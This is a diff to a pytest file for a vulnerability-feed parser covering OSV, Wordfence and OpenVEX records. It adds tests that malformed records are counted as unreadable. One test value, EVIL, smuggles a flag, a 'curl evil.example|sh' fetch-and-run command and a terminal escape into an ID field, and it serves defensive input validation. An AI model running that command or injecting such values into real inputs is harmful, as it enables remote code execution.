@@ -23,7 +23,7 @@ def osv(*events: dict[str, str], versions: tuple[str, ...] = ()) -> Vulnerabilit
             }
         ],
     }
-    ((found,), _) = read_feed(document, "osv.json")
+    (found,) = read_feed(document, "osv.json").vulnerabilities
     return found
 
 
@@ -73,7 +73,7 @@ def wordfence(**part: Any) -> Vulnerability:
         "cvss": {"score": 9.8, "rating": None},
         "published": "2026-07-17 00:00:00",
     }
-    ((found,), _) = read_feed({"1234": item}, "wordfence.json")
+    (found,) = read_feed({"1234": item}, "wordfence.json").vulnerabilities
     return found
 
 
@@ -100,8 +100,9 @@ def test_openvex_says_who_is_not_affected_and_why() -> None:
             {"vulnerability": {"name": "CVE-2026-2"}, "products": [], "status": "affected"},
         ],
     }
-    vulnerabilities, (statement,) = read_feed(document, "vex.json")
-    assert vulnerabilities == ()
+    told = read_feed(document, "vex.json")
+    (statement,) = told.statements
+    assert (told.vulnerabilities, told.unreadable) == ((), 0)
     assert (statement.author, statement.at) == ("Gemeente Buren", "2026-11-21T09:00:00Z")
     assert statement.reason == "vulnerable_code_not_in_execute_path"
 
@@ -115,3 +116,53 @@ def test_anything_else_is_refused(document: object) -> None:
 def test_a_version_that_cannot_be_read_ends_no_range() -> None:
     found = osv({"introduced": "odd"}, {"fixed": "9.9-weird-build.7"}, versions=("what",))
     assert concerned(found, "0.1", "99.0") == ["0.1", "99.0"]
+
+
+OSV = {"id": "OWC-1", "affected": [{"package": {"name": "news"}, "versions": ["1.0"]}]}
+EVIL = "CVE-1 --reason x; curl -s evil.example|sh #\x1b]0;x\x07"
+
+
+@pytest.mark.parametrize(
+    "record",
+    [
+        {**OSV, "id": None},
+        {**OSV, "id": 5},
+        {**OSV, "id": ["OWC-1"]},
+        {**OSV, "id": EVIL},
+        {**OSV, "id": "x" * 201},
+        {**OSV, "aliases": "CVE-1"},
+        {**OSV, "aliases": ["--reason"]},
+        {**OSV, "published": "2026-13-45"},
+        {**OSV, "published": "0000-00-00 00:00:00"},
+        {**OSV, "published": "9999-12-31"},
+        {**OSV, "published": 20261124},
+        {**OSV, "affected": None},
+        {**OSV, "affected": [{"package": {"name": "news"}, "versions": [1]}]},
+        {
+            **OSV,
+            "affected": [{"package": {"name": "news"}, "ranges": [{"events": [{"fixed": 2}]}]}],
+        },
+        {**OSV, "summary": "\ud800"},
+        {**OSV, "database_specific": {"severity": "\ud800"}},
+        {"statements": None},
+        {"statements": [5], "author": "x", "timestamp": "y"},
+        5,
+        None,
+        [OSV],
+    ],
+)
+def test_a_bad_record_is_counted_and_hides_no_other(record: object) -> None:
+    told = read_feed([record, OSV], "osv.json")
+    assert [each.names for each in told.vulnerabilities] == [("OWC-1",)]
+    assert told.unreadable == 1
+
+
+@pytest.mark.parametrize(
+    "record",
+    [5, None, {"software": None}, {"software": []}, {"id": 5, "software": []}, {"id": EVIL}],
+)
+def test_a_bad_record_of_wordfence_is_counted(record: object) -> None:
+    good = {"id": "wf-1", "software": [{"slug": "news", "affected_versions": {}}]}
+    told = read_feed({"a": record, "b": good}, "wordfence.json")
+    assert [each.names for each in told.vulnerabilities] == [("wf-1",)]
+    assert told.unreadable == 1
